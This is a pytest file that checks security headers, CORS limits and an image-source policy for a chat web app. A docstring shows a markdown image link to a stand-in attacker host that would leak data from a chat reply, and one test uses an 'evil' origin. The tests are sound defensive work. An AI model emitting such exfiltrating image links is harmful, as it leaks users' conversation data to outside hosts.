"""Security headers on every response, configurable; CORS only for the origins configured."""

from __future__ import annotations

import pytest
from tests.conftest import Live

ORIGIN = "https://chat.example.com"


async def test_every_response_carries_the_security_headers_and_the_page_a_csp(live: Live) -> None:
    async with live.client() as http:
        for path in ("/api/conversations", "/", "/healthz", "/api/conversations/conv_nope"):
            response = await http.get(path)
            assert response.headers["x-content-type-options"] == "nosniff", path
            assert response.headers["x-frame-options"] == "DENY", path
            assert response.headers["referrer-policy"] == "no-referrer", path
            assert "frame-ancestors 'none'" in response.headers["content-security-policy"], path


async def test_the_api_docs_keep_their_cdn_scripts(live: Live) -> None:
    async with live.client() as http:
        docs = await http.get("/docs")
    assert docs.status_code == 200
    assert "content-security-policy" not in docs.headers
    assert docs.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "settings_overrides",
    [
        {
            "security_headers": {"Strict-Transport-Security": "max-age=63072000"},
            "content_security_policy": "",
        }
    ],
)
async def test_the_headers_are_configurable(live: Live) -> None:
    async with live.client() as http:
        response = await http.get("/healthz")
    assert response.headers["strict-transport-security"] == "max-age=63072000"
    assert "x-frame-options" not in response.headers
    assert "content-security-policy" not in response.headers


@pytest.mark.parametrize("settings_overrides", [{"cors_origins": [ORIGIN]}])
async def test_cors_answers_the_configured_origin_only(live: Live) -> None:
    preflight = {
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization",
    }
    async with live.client(user=None) as http:
        allowed = await http.options("/api/conversations", headers={"Origin": ORIGIN, **preflight})
        other = await http.options(
            "/api/conversations", headers={"Origin": "https://evil.example", **preflight}
        )
        simple = await http.get("/healthz", headers={"Origin": ORIGIN})
    assert allowed.status_code == 200
    assert allowed.headers["access-control-allow-origin"] == ORIGIN
    assert other.status_code == 400
    assert "access-control-allow-origin" not in other.headers
    assert simple.headers["access-control-allow-origin"] == ORIGIN


async def test_without_configured_origins_there_is_no_cors(live: Live) -> None:
    async with live.client(user=None) as http:
        response = await http.get("/healthz", headers={"Origin": ORIGIN})
    assert "access-control-allow-origin" not in response.headers


def _img_src(csp: str) -> list[str]:
    [directive] = [d.split() for d in csp.split(";") if d.split()[:1] == ["img-src"]]
    return directive[1:]


async def test_the_page_loads_no_remote_image_by_default(live: Live) -> None:
    """A reply's ``![x](https://attacker/?d=…)`` must not load (and leak) without a click."""
    async with live.client(user=None) as http:
        page = await http.get("/")
    assert _img_src(page.headers["content-security-policy"]) == ["'self'", "data:", "blob:"]


@pytest.mark.parametrize(
    "settings_overrides",
    [{"image_hosts": ["images.example.com", "*.cdn.example", "http://lan:8080"]}],
)
async def test_listed_image_hosts_extend_the_pages_img_src(live: Live) -> None:
    async with live.client(user=None) as http:
        page = await http.get("/")
    assert _img_src(page.headers["content-security-policy"]) == [
        "'self'",
        "data:",
        "blob:",
        "https://images.example.com",
        "https://*.cdn.example",
        "http://lan:8080",
    ]
